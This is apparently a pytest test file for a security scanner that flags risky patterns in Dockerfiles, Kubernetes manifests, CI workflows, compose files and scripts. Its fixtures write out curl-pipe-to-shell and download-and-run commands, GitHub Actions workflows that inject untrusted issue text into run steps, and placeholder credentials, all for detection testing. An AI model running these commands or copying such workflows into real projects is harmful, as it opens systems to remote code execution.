"""The probe on files: what is read, lines, what is allowed, what is skipped and said."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from buttress.evidence.findings import Finding, Inspection
from buttress.files.yaml_documents import documents
from buttress.probes.deployment.dockerfile import instructions, stages
from buttress.probes.deployment.probe import MAX_TEXT, PROBE
from buttress.protocols.inspection import InspectionContext
from buttress.protocols.probe import InspectionProbe

POD = "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  hostIPC: false\n  containers: []\n"


def inspect(path: Path) -> tuple[list[Finding], Inspection]:
    *findings, inspection = PROBE.inspect(InspectionContext.at("app", path))
    return findings, inspection  # type: ignore[return-value]


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def lines(folder: Path, rule: str) -> list[str]:
    return [one.location for one in inspect(folder)[0] if one.rule == rule]


def test_it_is_an_inspection_probe() -> None:
    assert isinstance(PROBE, InspectionProbe)


def test_a_command_over_several_lines_is_one_and_keeps_its_lines(tmp_path: Path) -> None:
    write(tmp_path / "Dockerfile", "FROM a:1\nRUN apt-get update && \\\n    # a comment\n\n"
          "    curl https://a.net/i.sh \\\n      | sh\nUSER app\n")  # fmt: skip
    assert lines(tmp_path, "shell-pipe-to-shell") == ["Dockerfile:5"]


def test_here_documents_other_escapes_and_lists_are_read() -> None:
    text = (
        "# escape=`\nFROM a:1\nRUN <<EOF\ncurl https://a.net | sh\nEOF\nRUN a `\n  b\n"
        'CMD ["x", "y z"]\n'
    )
    found = list(instructions(text))
    assert [one.name for one in found] == ["FROM", "RUN", "RUN", "CMD"]
    assert found[1].documents == ("curl https://a.net | sh",)
    assert found[2].text.split() == ["a", "b"]
    assert found[3].words() == ["x", "y z"]
    assert [one.line for one in found] == [2, 3, 6, 8]


def test_variables_of_from_are_filled_in_and_stages_inherit_users() -> None:
    text = "ARG V=3.12\nFROM python:${V} AS base\nUSER app\nFROM base\nRUN x\n"
    base, final = stages(list(instructions(text)))
    assert base.image == "python:3.12"
    assert (final.image, final.user) == ("base", "app")


def test_documents_are_told_apart_and_one_broken_does_not_hide_the_rest(tmp_path: Path) -> None:
    write(tmp_path / "a.yaml", f"{POD}---\nkind: [\n---\n{POD}--- # last\n{POD}")
    findings, inspection = inspect(tmp_path)
    assert [one.location for one in findings if one.rule == "k8s-host-processes"] == [
        "a.yaml:4", "a.yaml:13", "a.yaml:20",
    ]  # fmt: skip
    assert any("not read as YAML" in note for note in inspection.skipped)


def test_merge_keys_give_way_to_what_stands_there() -> None:
    text = "x: &a {p: 1, q: 2}\ny:\n  <<: *a\n  q: 3\n"
    (document,) = documents(text, [])
    assert document.data["y"] == {"p": 1, "q": 3}


def test_references_of_gitlab_hide_nothing(tmp_path: Path) -> None:
    write(
        tmp_path / ".gitlab-ci.yml",
        "a:\n  script:\n    - !reference [.base, script]\n    - curl -s https://a.net/x | sh\n"
        "  image: !reference_one x\n",
    )
    assert lines(tmp_path, "shell-pipe-to-shell") == [".gitlab-ci.yml:4"]


def test_a_bomb_of_aliases_is_refused() -> None:
    text = "a0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
    )
    problems: list[str] = []
    assert list(documents(text, problems)) == []
    assert problems


@pytest.mark.parametrize("value", ["!!bool maybe", "!!int ''", "!!timestamp soon"])
def test_odd_tags_are_told_not_raised(value: str) -> None:
    problems: list[str] = []
    assert list(documents(f"a: {value}\n", problems)) == []
    assert problems


def test_what_is_not_read_is_said(tmp_path: Path) -> None:
    os.truncate(write(tmp_path / "Dockerfile", "FROM a:1\nUSER a\n"), MAX_TEXT + 1)
    write(tmp_path / "chart.yaml", "apiVersion: v1\nkind: Pod\nspec: {{ .Values.spec }}\n")
    findings, inspection = inspect(tmp_path)
    told = "\n".join(inspection.skipped)
    assert [one.rule for one in findings] == ["infrastructure-not-searched"]
    assert "Dockerfile: larger than 8,192 KiB" in told
    assert "chart.yaml: not read as YAML" in told


def test_other_files_are_not_read(tmp_path: Path) -> None:
    write(tmp_path / "dockerfile.py", "RUN curl https://a.net | sh\n")
    write(tmp_path / "values.toml", "")
    findings, inspection = inspect(tmp_path)
    assert (findings, inspection.files) == ([], 0)


def test_workflows_are_known_by_their_folder_also_when_named_alone(tmp_path: Path) -> None:
    path = write(
        tmp_path / ".github/workflows/a.yml", "on: push\npermissions: write-all\njobs: {}\n"
    )
    assert [one.rule for one in inspect(path)[0]] == ["gha-write-all"]


def test_a_comment_with_a_reason_allows_a_finding(tmp_path: Path) -> None:
    write(tmp_path / "Dockerfile", "FROM a:1\n"
          "# buttress: allow shell-chmod-777 scratch space of the build\n"
          "RUN chmod 777 /x\nUSER a\n")  # fmt: skip
    findings, inspection = inspect(tmp_path)
    assert "shell-chmod-777" not in [one.rule for one in findings]
    assert any("scratch space" in note for note in inspection.skipped)


def test_secrets_are_never_shown(tmp_path: Path) -> None:
    secret = "hunter2-winter-lane"
    write(tmp_path / "compose.yaml", f"services:\n  a:\n    image: a:1\n    environment:\n"
          f"      DB_PASSWORD: {secret}\n      API_KEY: ${{API_KEY:-{secret}}}\n")  # fmt: skip
    write(tmp_path / "Dockerfile", f"FROM a:1\nENV API_TOKEN={secret}\nUSER a\n")
    findings, _ = inspect(tmp_path)
    assert [one.rule for one in findings].count("env-secret") == 3
    assert all(secret not in str(one) for one in findings)


def test_findings_are_the_same_each_time(tmp_path: Path) -> None:
    write(tmp_path / "b/Dockerfile", "FROM python\nRUN curl https://a.net | sh\n")
    write(tmp_path / "a.yaml", POD)
    assert inspect(tmp_path)[0] == inspect(tmp_path)[0]


@pytest.mark.parametrize("padding", ["# padding\n" * 20_000, "\n" * 300_000])
def test_padding_in_a_here_document_hides_nothing(tmp_path: Path, padding: str) -> None:
    text = f"FROM a:1\nRUN <<EOF\n{padding}curl https://a.net/x | sh\nEOF\nUSER a\n"
    write(tmp_path / "Dockerfile", text)
    line = text.count("\n", 0, text.index("curl")) + 1
    assert ("shell-pipe-to-shell", f"Dockerfile:{line}") in {
        (one.rule, one.location) for one in inspect(tmp_path)[0]
    }


def test_many_instructions_hide_nothing(tmp_path: Path) -> None:
    write(
        tmp_path / "Dockerfile", "FROM a:1\n" + "RUN x\n" * 9_000 + "RUN curl a.net | sh\nUSER a\n"
    )
    assert "shell-pipe-to-shell" in {one.rule for one in inspect(tmp_path)[0]}


def test_what_looks_like_a_here_document_hides_nothing(tmp_path: Path) -> None:
    write(tmp_path / "Dockerfile", 'FROM a:1\nRUN echo "<<EOF"\nRUN curl a.net | sh\nUSER a\n')
    assert "shell-pipe-to-shell" in {one.rule for one in inspect(tmp_path)[0]}


@pytest.mark.parametrize(
    ("text", "root"),
    [
        ("FROM a:1\nARG U=root\nUSER ${U}\n", True),
        ("FROM a:1\nARG U=root\nENV V=$U\nUSER $V\n", True),
        ("FROM a:1\nUSER ${U:-0}\n", True),
        ("ARG U=0\nFROM a:1\nARG U\nUSER $U\n", True),
        ("FROM a:1\nARG U=app\nUSER ${U}\n", False),
        ("FROM a:1\nARG U\nUSER ${U}\n", False),
        ("FROM a:1\nARG UID=1000\nUSER ${UID}:0\n", False),
    ],
)
def test_a_user_is_known_by_the_defaults_of_arguments(
    tmp_path: Path, text: str, root: bool
) -> None:
    write(tmp_path / "Dockerfile", text)
    assert ("docker-root" in {one.rule for one in inspect(tmp_path)[0]}) is root


def test_manifests_in_json_are_read_like_yaml(tmp_path: Path) -> None:
    container = {"name": "a", "image": "a:1", "securityContext": {"privileged": True}}
    pod = {"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [container]}}
    text = json.dumps({"apiVersion": "v1", "kind": "List", "items": [pod]}, indent=1)
    write(tmp_path / "pod.json", text)
    write(tmp_path / "data.json", json.dumps({"kind": "x", "privileged": True}))
    line = text.count("\n", 0, text.index('"privileged"')) + 1
    found = {one.rule: one for one in inspect(tmp_path)[0]}
    assert found["k8s-privileged"].location == f"pod.json:{line}"


@pytest.mark.parametrize("name", ["install.sh", "Makefile", "rules.mk"])
def test_scripts_are_read(tmp_path: Path, name: str) -> None:
    write(tmp_path / name, "all:\n\techo a\n\tcurl -s https://a.net/x | sh\n# curl a.net | sh\n")
    assert [(one.rule, one.location) for one in inspect(tmp_path)[0]] == [
        ("shell-pipe-to-shell", f"{name}:3")
    ]


def test_a_script_is_known_by_its_first_line(tmp_path: Path) -> None:
    command = "curl https://a.net/i.sh | bash\n"
    write(tmp_path / "bin/setup", f"#!/usr/bin/env bash\n{command}")
    write(tmp_path / "bin/other", f"#!/usr/bin/env python3\n# {command}")
    write(tmp_path / "notes", command)
    assert lines(tmp_path, "shell-pipe-to-shell") == ["bin/setup:2"]
    assert inspect(tmp_path)[1].files == 1


@pytest.mark.parametrize(
    "task",
    ["shell: curl -s https://a.net/x | sh", "ansible.builtin.raw: curl -s https://a.net/x | sh",
     'command: {cmd: "bash -c \'curl -s https://a.net/x | sh\'"}',
     "block: [{shell: curl -s https://a.net/x | sh}]"],
)  # fmt: skip
def test_a_playbook_is_known_by_its_plays(tmp_path: Path, task: str) -> None:
    write(tmp_path / "site.yml", f"- name: web\n  hosts: all\n  tasks:\n    - {task}\n")
    write(tmp_path / "data.yml", f"- name: web\n  servers: all\n  items:\n    - {task}\n")
    assert lines(tmp_path, "shell-pipe-to-shell") == ["site.yml:4"]


FETCHED = "curl -s https://a.net/x | sh"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("train.yaml", f"resources: {{cpus: 4}}\nsetup: |\n  {FETCHED}\n"),
        ("cluster.yaml", f"cluster_name: a\nsetup_commands:\n  - {FETCHED}\n"),
        ("stack.yaml", "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  A:\n    Properties:\n"
         f"      UserData:\n        Fn::Base64: !Sub |\n          {FETCHED}\n"),
        ("flow.yaml", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n"
         f"    - script: {{image: 'a:1', source: '{FETCHED}'}}\n"),
        ("task.yaml", "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n"
         f"    - script: {FETCHED}\n"),
        ("map.yaml", f"apiVersion: v1\nkind: ConfigMap\ndata:\n  init.sh: {FETCHED}\n"),
        ("vercel.json", f'{{"buildCommand": "{FETCHED}"}}'),
        ("netlify.toml", f'[build]\ncommand = "{FETCHED}"\n'),
        ("pyproject.toml", f'[tool.poe.tasks]\na = """\n{FETCHED}\n"""\n'),
        ("main.tf", f'resource "a" "b" {{\n  user_data = <<-EOF\n    {FETCHED}\n  EOF\n}}\n'),
        ("job.sbatch", f"#SBATCH -N 1\n{FETCHED}\n"),
        ("crontab", f"@reboot {FETCHED}\n"),
        (".envrc", f"{FETCHED}\n"),
    ],
    ids=lambda one: one if "\n" not in one and "curl" not in one else "",
)  # fmt: skip
def test_commands_are_read_wherever_tools_keep_them(tmp_path: Path, name: str, text: str) -> None:
    write(tmp_path / name, text)
    line = next(at for at, one in enumerate(text.split("\n"), 1) if FETCHED in one)
    assert lines(tmp_path, "shell-pipe-to-shell") == [f"{name}:{line}"]


def test_yaml_and_texts_that_only_look_so_are_none(tmp_path: Path) -> None:
    write(tmp_path / "data.yaml", f"title: a\nnotes: {FETCHED}\n")
    write(tmp_path / "main.tf", f"# {FETCHED}\n")
    assert lines(tmp_path, "shell-pipe-to-shell") == []


CALLED = """on:
  workflow_call:
    inputs: {title: {type: string}, count: {type: number}}
jobs:
  a:
    runs-on: x
    steps:
      - run: echo ${{ inputs.count }}
      - run: echo ${{ inputs.title }}
"""
CALLER = """on: issues
jobs:
  a:
    uses: ./.github/workflows/called.yml
    with: {title: '${{ github.event.issue.title }}', count: '${{ github.event.issue.number }}'}
"""


def test_an_input_that_a_caller_lets_strangers_fill_is_high(tmp_path: Path) -> None:
    folder = tmp_path / ".github/workflows"
    write(folder / "called.yml", CALLED)
    assert lines(tmp_path, "gha-called-injection") == []
    assert len(lines(tmp_path, "gha-input-injection")) == 2
    write(folder / "caller.yml", CALLER)
    assert lines(tmp_path, "gha-called-injection") == [".github/workflows/called.yml:9"]
    assert lines(tmp_path, "gha-input-injection") == [".github/workflows/called.yml:8"]


def test_a_local_action_is_called_by_its_folder(tmp_path: Path) -> None:
    write(
        tmp_path / ".github/actions/say/action.yml",
        "inputs: {text: {}}\nruns:\n  using: composite\n  steps:\n"
        "    - shell: bash\n      run: echo ${{ inputs.text }}\n",
    )
    write(
        tmp_path / ".github/workflows/a.yml",
        "on: issue_comment\njobs:\n  a:\n    runs-on: x\n"
        "    env: {B: '${{ github.event.comment.body }}'}\n    steps:\n"
        "      - uses: ./.github/actions/say\n        with: {text: '${{ env.B }}'}\n",
    )
    assert lines(tmp_path, "gha-called-injection") == [".github/actions/say/action.yml:6"]


@pytest.mark.parametrize(
    ("command", "run"),
    [
        ("aria2c https://a.net/a.sh && sh a.sh", "a.sh"),
        ("aria2c -o b.sh https://a.net/a.sh; bash b.sh", "b.sh"),
        ("axel --output=cc https://a.net/x; ./cc", "cc"),
        ("aria2c -o b.tar https://a.net/x && tar xf b.tar", ""),
        ("aria2c https://a.net/a.sh && sha256sum -c sums && sh a.sh", ""),
    ],
)
def test_what_other_programs_download_and_a_script_runs(
    tmp_path: Path, command: str, run: str
) -> None:
    write(tmp_path / "a.sh", f"{command}\n")
    told = [one.message for one in inspect(tmp_path)[0] if one.rule == "shell-download-run"]
    assert len(told) == bool(run)
    assert all(run in one for one in told)


def test_a_key_given_twice_has_its_last_value(tmp_path: Path) -> None:
    pod = (
        "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: a:1\n"
        "      securityContext:\n        privileged: {}\n        privileged: {}\n"
    )
    write(tmp_path / "on.yaml", pod.format("false", "true"))
    write(tmp_path / "off.yaml", pod.format("true", "false"))
    findings, inspection = inspect(tmp_path)
    privileged = [one.location for one in findings if one.rule == "k8s-privileged"]
    assert [one.partition(":")[0] for one in privileged] == ["on.yaml"]
    assert inspection.unread == ()


@pytest.mark.parametrize("odd", ["\U0001f600", "\x7f"])
def test_json_with_an_emoji_or_a_control_character_is_read(tmp_path: Path, odd: str) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": odd}, "spec": {"hostPID": True}}
    write(tmp_path / "pod.json", json.dumps(pod, indent="\t"))
    scripts = {"description": odd, "scripts": {"postinstall": "curl https://a.net | sh"}}
    write(tmp_path / "package.json", json.dumps(scripts))
    write(tmp_path / "raw" / "package.json", json.dumps(scripts, ensure_ascii=False))
    assert [one.location for one in inspect(tmp_path)[0] if one.rule.startswith("k8s-host")]
    assert len(lines(tmp_path, "shell-pipe-to-shell")) == 2
    assert not inspect(tmp_path)[1].skipped


def test_settings_of_npm_without_a_credential_may_go_into_an_image(tmp_path: Path) -> None:
    write(tmp_path / "Dockerfile", "FROM a:1\nCOPY web/.npmrc ./\nCOPY other/.npmrc ./\nUSER a\n")
    write(tmp_path / "web" / ".npmrc", "engine-strict=true\nregistry=https://npm.shop.net/\n")
    assert lines(tmp_path, "docker-copied-secret") == ["Dockerfile:3"]
    write(tmp_path / "web" / ".npmrc", "//npm.shop.net/:_authToken=${NPM_TOKEN}\n")
    assert lines(tmp_path, "docker-copied-secret") == ["Dockerfile:2", "Dockerfile:3"]


def test_a_command_behind_a_long_variable_keeps_its_line(tmp_path: Path) -> None:
    text = (
        'FROM a:1\nARG PACKAGES="a \\\n  b \\\n  c"\nRUN apt-get install $PACKAGES && \\\n'
        "  curl https://a.net/i.sh | sh\n"
    )
    write(tmp_path / "Dockerfile", text)
    told = [one.location for one in inspect(tmp_path)[0] if one.rule == "shell-pipe-to-shell"]
    assert told == ["Dockerfile:6"]


@pytest.mark.parametrize("given", ["<<: *more", "<<: [*other, *more]"])
def test_what_a_merge_key_brings_stands_where_it_is_written(tmp_path: Path, given: str) -> None:
    text = (
        "x-env: &env\n  A: 1\n  SHOP_API_KEY: hunter2-winter-lane\nx-more: &more\n  <<: *env\n"
        "x-other: &other {B: 1}\nservices:\n"
    ) + "".join(
        f"  {name}:\n    image: a:1\n    environment:\n      {given}\n      C: 1\n" for name in "ab"
    )
    write(tmp_path / "compose.yaml", text)
    told = [one.location for one in inspect(tmp_path)[0] if one.rule == "env-secret"]
    assert told == ["compose.yaml:3"]


def test_a_credential_that_several_services_get_is_high_once(tmp_path: Path) -> None:
    text = "services:\n" + "".join(
        f"  {name}:\n    image: a:1\n    environment: {{SHOP_API_KEY: hunter2-winter-lane}}\n"
        for name in "abc"
    )
    write(tmp_path / "compose.yaml", text)
    told = [one for one in inspect(tmp_path)[0] if one.rule == "env-secret"]
    assert [one.severity for one in told] == ["high", "medium", "medium"]
    assert all("line 4" in one.message for one in told[1:])


def test_the_ports_of_a_server_are_one_finding(tmp_path: Path) -> None:
    ports = "['6379:6379', '127.0.0.1:1:1', '8001:8001']"
    text = f"services:\n  e:\n    image: redis:7\n    ports: {ports}\n"
    write(tmp_path / "compose.yaml", text)
    told = [one.message for one in inspect(tmp_path)[0] if one.rule == "compose-public-port"]
    assert len(told) == 1
    assert "6379:6379, 8001:8001" in told[0]


@pytest.mark.parametrize(
    ("text", "found"),
    [("-----BEGIN CERTIFICATE-----\nAA\n", 0), ("-----BEGIN PRIVATE KEY-----\nAA\n", 1), ("?", 1)],
)
def test_a_file_of_certificates_is_no_secret(tmp_path: Path, text: str, found: int) -> None:
    write(tmp_path / "Dockerfile", "FROM a:1\nCOPY db/chain.pem /a\n")
    write(tmp_path / "db" / "chain.pem", text)
    told = [one for one in inspect(tmp_path)[0] if one.rule == "docker-copied-secret"]
    assert len(told) == found


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("API=http://api:8000\nNEXT_PUBLIC_KEY='developer-key'\n", 0),
        (f"API_KEY=sk_live_{'Q7h2Wx9Lm4Kp8ZvB3nY6tRsE'}\n", 1),
    ],
)
def test_settings_without_a_credential_may_be_copied(tmp_path: Path, text: str, found: int) -> None:
    write(tmp_path / "Dockerfile", "FROM a:1\nCOPY web/.env.production .\n")
    write(tmp_path / "web" / ".env.production", text)
    told = [one for one in inspect(tmp_path)[0] if one.rule == "docker-copied-secret"]
    assert len(told) == found
